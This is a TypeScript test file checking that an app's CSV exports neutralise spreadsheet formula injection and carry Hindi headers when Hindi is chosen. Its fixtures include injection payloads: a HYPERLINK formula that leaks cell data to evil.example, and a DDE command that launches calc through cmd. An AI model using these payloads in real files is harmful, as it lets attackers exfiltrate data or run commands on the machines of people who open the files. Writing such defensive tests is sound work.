import Papa from 'papaparse';
import { afterEach, beforeAll, describe, expect, it } from 'vitest';
import { languageStore } from '../../../sync/device/language-store';
import { buildGroupReport, buildReport, reportPeriods } from '../../../sync/contract';
import { toCsv } from '../../../src/lib/csv';
import { reportCsvRows } from '../../../src/features/reports/components/report-table';
import { groupReportCsvRows } from '../../../src/features/reports/components/group-report-table';
import { loadHindi } from '../../../src/lib/i18n';

/*
 * The CSV exports of part 2 (report.csv, group-report.csv; section 9) are opened in a
 * spreadsheet. A cell beginning with =, +, -, @, a tab or a carriage return is read there
 * as a formula, so a center named '=HYPERLINK(...)' would be a live link in the export:
 * every such text cell is written with a leading apostrophe. Counts are numbers and are
 * written as they are (a number is never a formula, and -5 stays -5).
 */

const formulas = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Open")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
];
const startsAsFormula = /^[=+\-@\t\r]/;

/** The cells of an export as a spreadsheet reads them (the BOM dropped). */
const cellsOf = (csv: string) => Papa.parse<string[]>(csv.replace(/^\uFEFF/, '')).data.flat();

// Hindi is a chunk the app loads when it is chosen; here it is in before any switch.
beforeAll(loadHindi);

describe('CSV exports hold no live formula', () => {
  it('toCsv: text beginning with =, +, -, @, tab or carriage return gets a leading apostrophe; numbers stay numbers', () => {
    const csv = toCsv([formulas, [-5, 0, 12, 'a=b', 'plain', null]]);
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    const [texts, numbers] = Papa.parse<string[]>(csv.slice(1)).data;
    expect(texts).toEqual(formulas.map((f) => `'${f}`));
    expect(numbers).toEqual(['-5', '0', '12', 'a=b', 'plain', '']);
    // Our choice: a number given as text is text, and is neutralised like any other.
    expect(cellsOf(toCsv([['-5']]))).toEqual(["'-5"]);
  });

  it('group-report.csv: a center named as a formula is text in the export; the counts stay numbers', () => {
    const periods = reportPeriods('2024-04-01', '2025-03-31', '2025-06-30');
    const centers = formulas.map((name, i) => ({ id: i + 2, name }));
    const answer = buildGroupReport(
      new Map([['2|education|Male', 4]]),
      periods,
      centers,
      new Map([[3, { male: 2, female: 1 }]]),
    );
    const csv = toCsv(groupReportCsvRows(answer));
    const [header] = Papa.parse<string[]>(csv.slice(1)).data;
    expect(header).toEqual(['Category', ...formulas.map((f) => `'${f}`), 'Total']);
    expect(cellsOf(csv).filter((cell) => startsAsFormula.test(cell))).toEqual([]);
    // The previous balance comes after Total, a blank line apart, saying Total leaves it out.
    expect(csv).toMatch(/\r\nTotal,4,0,0,0,0,0,4\r\n\r\nPrevious balance \(not included in Total\),0,3,0,0,0,0,3$/);
  });

  it('report.csv: a category title read as a formula is text in the export; the counts stay numbers', () => {
    const periods = reportPeriods('2024-04-01', '2025-03-31', '2025-06-30');
    const answer = buildReport(new Map(), periods, {
      centerId: 2,
      center_name: formulas[0]!,
      balance: { male: 3, female: 4 },
    });
    answer.categories = answer.categories.map((c, i) => ({ ...c, title: formulas[i % formulas.length]! }));
    const csv = toCsv(reportCsvRows(answer));
    expect(cellsOf(csv).filter((cell) => startsAsFormula.test(cell))).toEqual([]);
    expect(cellsOf(csv)).toContain(`'${formulas[0]}`);
    expect(csv).toMatch(/\r\nTotal(,0){12}\r\n\r\nPrevious balance \(not included in Total\),3,4,7$/);
  });
});

describe('CSV exports are headed in the language shown (README "Languages")', () => {
  afterEach(() => languageStore.getState().setLanguage('en'));

  it('report.csv and group-report.csv exported in Hindi are headed in Hindi; their counts are the same numbers', () => {
    const periods = reportPeriods('2024-04-01', '2025-03-31', '2025-06-30');
    const report = buildReport(new Map(), periods, {
      centerId: 2,
      center_name: 'Udaan',
      balance: { male: 3, female: 4 },
    });
    const group = buildGroupReport(new Map([['2|education|Male', 4]]), periods, [{ id: 2, name: 'Udaan' }], new Map());
    const english = { report: reportCsvRows(report), group: groupReportCsvRows(group) };
    languageStore.getState().setLanguage('hi');
    const hindi = { report: reportCsvRows(report), group: groupReportCsvRows(group) };

    expect(english.report[0]![0]).toBe('Category');
    expect(hindi.report[0]![0]).toBe('प्रकार');
    expect(hindi.report[0]![1]).toBe('इस अवधि में (01-04-2024 से 31-03-2025 तक)');
    expect(hindi.report[1]!.slice(1, 4)).toEqual(['लड़के', 'लड़कियाँ', 'कुल']);
    expect(hindi.report.at(-1)![0]).toBe('पिछला बैलेंस (कुल में नहीं जोड़ा)');
    expect(hindi.group[0]).toEqual(['प्रकार', 'Udaan', 'कुल']);
    // No English word is left in the Hindi export (acronyms such as CWC stay); the numbers are the same.
    const words = (rows: (string | number)[][]) =>
      rows.flat().filter((cell) => typeof cell === 'string' && /[a-z]{3}/.test(cell) && cell !== 'Udaan');
    expect(words(hindi.report)).toEqual([]);
    expect(words(hindi.group)).toEqual([]);
    const numbers = (rows: (string | number)[][]) => rows.flat().filter((cell) => typeof cell === 'number');
    expect(numbers(hindi.report)).toEqual(numbers(english.report));
    expect(numbers(hindi.group)).toEqual(numbers(english.group));
  });
});
